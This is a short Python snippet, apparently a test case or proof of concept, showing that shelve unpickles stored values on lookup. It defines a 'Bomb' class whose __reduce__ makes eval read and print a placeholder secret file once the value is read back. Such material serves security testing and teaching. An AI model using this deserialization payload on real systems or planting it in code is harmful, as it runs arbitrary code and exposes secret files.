"""A shelf reads a pickle for every key that is asked for."""
import shelve
class Bomb:
    def __reduce__(self):
        return eval, ("print(open('@SECRET_FILE@').read())",)
shelf = shelve.Shelf({})
shelf["x"] = Bomb()
shelf["x"]
